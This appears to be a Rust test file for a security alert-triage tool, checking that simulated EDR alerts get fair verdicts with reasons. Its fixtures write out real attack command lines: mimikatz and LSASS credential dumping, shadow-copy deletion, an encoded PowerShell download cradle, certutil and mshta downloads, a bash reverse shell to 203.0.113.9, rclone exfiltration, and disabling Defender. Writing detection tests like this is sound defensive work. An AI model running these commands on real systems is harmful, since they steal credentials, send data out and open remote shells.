//! What alerts are held to be, asked the way people ask: `vyrox alert show`.

use std::collections::BTreeMap;

use serde_json::{Value, json};
use tempfile::tempdir;

use super::entry_of;
use crate::server::{Http, NO_RATIONS, Server, Tenant};

struct Case {
    name: &'static str,
    vendor: &'static str,
    alert: Value,
    /// Every verdict that an analyst could defend.
    fair: &'static [&'static str],
}

const VERDICTS: [&str; 5] = ["CRITICAL", "HIGH", "MEDIUM", "LOW", "BENIGN"];
const ALARM: &[&str] = &["CRITICAL", "HIGH"];
const NOT_QUIET: &[&str] = &["CRITICAL", "HIGH", "MEDIUM"];
const QUIET: &[&str] = &["LOW", "BENIGN"];

/// Posts a case and reads what the command line says of it.
fn show(server: &Server, tenant: &Tenant, http: &mut Http, case: &Case) -> Value {
    let body = case.alert.to_string().into_bytes();
    let answer = tenant.alert(http, case.vendor, &body);
    entry_of(server, &tenant.id, &answer["receipt"]);
    let id = answer["alert_id"].as_str().unwrap();
    let output = server.cli(&["alert", "show", id, "--tenant", &tenant.id, "--json"]);
    assert!(output.status.success(), "{}: {output:?}", case.name);
    let shown: Value = serde_json::from_slice(&output.stdout).unwrap();
    let members = [
        "alert_id",
        "tenant_id",
        "vendor",
        "vendor_alert_id",
        "status",
        "verdict",
        "confidence_bp",
        "reasons",
        "incident_id",
        "proposal",
        "history",
    ];
    for member in members {
        assert!(
            shown.get(member).is_some(),
            "{member} is missing in {shown}"
        );
    }
    assert_eq!(shown["alert_id"], answer["alert_id"], "{shown}");
    assert!(
        shown["confidence_bp"]
            .as_u64()
            .is_some_and(|bp| bp <= 10_000),
        "{shown}"
    );
    let events: Vec<_> = shown["history"].as_array().unwrap().iter().collect();
    assert_eq!(events[0]["event"], "alert.received", "{shown}");
    assert_eq!(events[1]["event"], "alert.triaged", "{shown}");
    shown
}

fn line(case: &Case, shown: &Value) -> String {
    let reasons = shown["reasons"].as_array().unwrap();
    let reasons: Vec<_> = reasons
        .iter()
        .filter_map(|reason| reason["title"].as_str())
        .collect();
    format!(
        "{:<38} {:<8} {:>5} bp  {}",
        case.name,
        shown["verdict"].as_str().unwrap_or("none"),
        shown["confidence_bp"],
        reasons.join("; ")
    )
}

#[test]
fn known_attacks_get_the_verdict_that_they_deserve_with_reasons() {
    let dir = tempdir().unwrap();
    let server = Server::start(dir.path(), NO_RATIONS);
    let acme = server.add_tenant("acme");
    let mut http = server.http();
    for case in known() {
        let shown = show(&server, &acme, &mut http, &case);
        println!("{}", line(&case, &shown));
        let verdict = shown["verdict"].as_str().unwrap_or("none");
        assert!(
            case.fair.contains(&verdict),
            "{} is {:?}: {shown}",
            case.name,
            case.fair
        );
        let reasons = shown["reasons"].as_array().unwrap();
        assert!(!reasons.is_empty(), "{} has no reasons: {shown}", case.name);
        for reason in reasons {
            let said = ["rule_id", "title", "leaning"].map(|name| reason[name].as_str());
            assert!(
                said.iter()
                    .all(|text| text.is_some_and(|text| !text.is_empty())),
                "{reason}"
            );
        }
        let closed = shown["status"] == "closed";
        assert_eq!(closed, case.fair == QUIET, "{}: {shown}", case.name);
    }
    let report = server.cli(&["audit", "verify", "acme"]);
    assert!(report.status.success(), "{report:?}");
}

#[test]
fn alerts_that_no_rule_was_written_for_are_judged_too() {
    let dir = tempdir().unwrap();
    let server = Server::start(dir.path(), NO_RATIONS);
    let acme = server.add_tenant("acme");
    let mut http = server.http();
    let mut fared: BTreeMap<bool, Vec<&str>> = BTreeMap::new();
    for case in unseen() {
        let shown = show(&server, &acme, &mut http, &case);
        let verdict = shown["verdict"].as_str().unwrap_or("none");
        assert!(VERDICTS.contains(&verdict), "{}: {shown}", case.name);
        let fair = case.fair.contains(&verdict);
        println!(
            "{}  {}",
            if fair { "fair  " } else { "UNFAIR" },
            line(&case, &shown)
        );
        fared.entry(fair).or_default().push(case.name);
        // What must never be, however little is known: an attack written off, or a routine job that
        // wakes somebody up at night.
        let worst = if case.fair == QUIET {
            &["CRITICAL", "HIGH"][..]
        } else {
            &["BENIGN"]
        };
        assert!(
            !worst.contains(&verdict),
            "{} came to {verdict}: {shown}",
            case.name
        );
    }
    let count = |fair| fared.get(&fair).map_or(0, Vec::len);
    println!(
        "{} judged as an analyst would, {} not",
        count(true),
        count(false)
    );
    assert!(
        count(true) >= 3 * count(false),
        "most are misjudged: {fared:?}"
    );
}

fn falcon(name: &'static str, command: &str, severity: &str, user: &str) -> Value {
    let image = command.split(' ').next().unwrap_or_default();
    let image = image.rsplit('\\').next().unwrap_or_default();
    json!({
        "detect_id": format!("ldt:{name}"), "customer_id": "acme", "timestamp": 1_767_225_600,
        "severity": severity, "tactic": "Execution", "technique": "T1059",
        "sensor": { "hostname": "WS-0042", "agent_id": "a1b2c3d4e5f6" },
        "process": { "user_name": user, "file_name": image, "command_line": command },
    })
}

fn case(
    name: &'static str,
    command: &str,
    (severity, user): (&str, &str),
    fair: &'static [&'static str],
) -> Case {
    Case {
        name,
        vendor: "crowdstrike",
        alert: falcon(name, command, severity, user),
        fair,
    }
}

fn known() -> Vec<Case> {
    let cradle = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=";
    vec![
        case(
            "credential dumping",
            r#"C:\Temp\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#,
            ("CRITICAL", "jdoe"),
            &["CRITICAL"],
        ),
        case(
            "credential dumping by a system tool",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Temp\o.dmp full",
            ("HIGH", "jdoe"),
            &["CRITICAL"],
        ),
        case(
            "ransomware",
            "vssadmin.exe delete shadows /all /quiet",
            ("CRITICAL", "jdoe"),
            &["CRITICAL"],
        ),
        case(
            "encoded PowerShell cradle",
            cradle,
            ("HIGH", "jdoe"),
            &["HIGH"],
        ),
        case(
            "PsExec lateral movement",
            r"PsExec64.exe \\SRV-FILE02 -accepteula -s cmd.exe",
            ("HIGH", "jdoe"),
            &["HIGH"],
        ),
        case(
            "robocopy backup by a service account",
            r"robocopy.exe D:\Data \\NAS01\backup /MIR /Z /R:2 /LOG:C:\Logs\backup.log",
            ("LOW", "svc_backup"),
            QUIET,
        ),
    ]
}

/// Alerts as they come in real life, thought of without looking at the rules: name, command line,
/// the vendor's severity, user, fair verdicts.
const UNSEEN: [(&str, &str, &str, &str, &[&str]); 16] = [
    (
        "kerberoasting with Rubeus",
        "Rubeus.exe kerberoast /outfile:h.txt",
        "HIGH",
        "jdoe",
        ALARM,
    ),
    (
        "the directory database copied",
        r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Temp\x" q q"#,
        "MEDIUM",
        "jdoe",
        ALARM,
    ),
    (
        "SAM hive saved",
        r"reg.exe save HKLM\SAM C:\Users\Public\s.hiv",
        "MEDIUM",
        "jdoe",
        ALARM,
    ),
    (
        "certutil as a downloader",
        r"certutil.exe -urlcache -split -f http://203.0.113.9/p.txt C:\ProgramData\p.exe",
        "MEDIUM",
        "jdoe",
        ALARM,
    ),
    (
        "mshta with a remote script",
        "mshta.exe https://203.0.113.9/a.hta",
        "MEDIUM",
        "jdoe",
        ALARM,
    ),
    (
        "boot recovery turned off",
        "bcdedit.exe /set {default} recoveryenabled No",
        "HIGH",
        "jdoe",
        ALARM,
    ),
    (
        "event log cleared",
        "wevtutil.exe cl Security",
        "MEDIUM",
        "jdoe",
        ALARM,
    ),
    (
        "a new administrator",
        "net.exe localgroup administrators helpdesk2 /add",
        "MEDIUM",
        "jdoe",
        NOT_QUIET,
    ),
    (
        "reverse shell in bash",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
        "HIGH",
        "www-data",
        ALARM,
    ),
    (
        "cloud sync of a share by rclone",
        r"rclone.exe copy \\FS01\Finance mega:loot --transfers 16",
        "MEDIUM",
        "jdoe",
        ALARM,
    ),
    (
        "Defender turned off",
        "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
        "HIGH",
        "jdoe",
        ALARM,
    ),
    (
        "a scheduled task from a temp folder",
        r"schtasks.exe /create /sc minute /mo 5 /tn Upd /tr C:\Users\jdoe\AppData\Local\Temp\u.exe",
        "MEDIUM",
        "jdoe",
        NOT_QUIET,
    ),
    (
        "a person looks at addresses",
        "ipconfig.exe /all",
        "LOW",
        "jdoe",
        QUIET,
    ),
    (
        "a database backup",
        r"sqlcmd.exe -Q BACKUP DATABASE erp TO DISK='E:\bak\erp.bak'",
        "LOW",
        "svc_sql",
        QUIET,
    ),
    (
        "an update of a browser",
        r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /svc",
        "INFORMATIONAL",
        "SYSTEM",
        QUIET,
    ),
    (
        "a build",
        r"C:\tools\cmake.exe --build . --config Release",
        "INFORMATIONAL",
        "ci",
        QUIET,
    ),
];

fn unseen() -> Vec<Case> {
    let mut cases: Vec<Case> = UNSEEN
        .into_iter()
        .map(|(name, command, severity, user, fair)| case(name, command, (severity, user), fair))
        .collect();
    cases.extend(unseen_elsewhere());
    cases
}

fn unseen_elsewhere() -> Vec<Case> {
    vec![
        Case {
            name: "SentinelOne: WMI to another host",
            vendor: "sentinelone",
            alert: json!({
                "id": "s1-1", "accountId": "acme", "createdAt": "2026-01-01T10:00:00Z",
                "severity": "high", "mitreTactic": "Lateral Movement",
                "agentRealtimeInfo": { "computerName": "SRV-2", "agentId": "77" },
                "processName": "wmic.exe",
                "commandLine": "wmic /node:10.0.0.9 process call create \"cmd /c c:\\t\\b.exe\"",
            }),
            fair: ALARM,
        },
        Case {
            name: "Defender: ransomware in its title alone",
            vendor: "defender",
            alert: json!({
                "id": "da-1", "tenant_id": "acme", "severity": "High",
                "title": "Ransomware activity detected", "category": "Ransomware",
                "machineId": "m-1", "computerDnsName": "pc9.example.com",
            }),
            fair: ALARM,
        },
        Case {
            name: "generic: nothing but an id",
            vendor: "generic",
            alert: json!({ "tenant_id": "acme", "alert_id": "bare" }),
            fair: &["MEDIUM", "LOW"],
        },
    ]
}
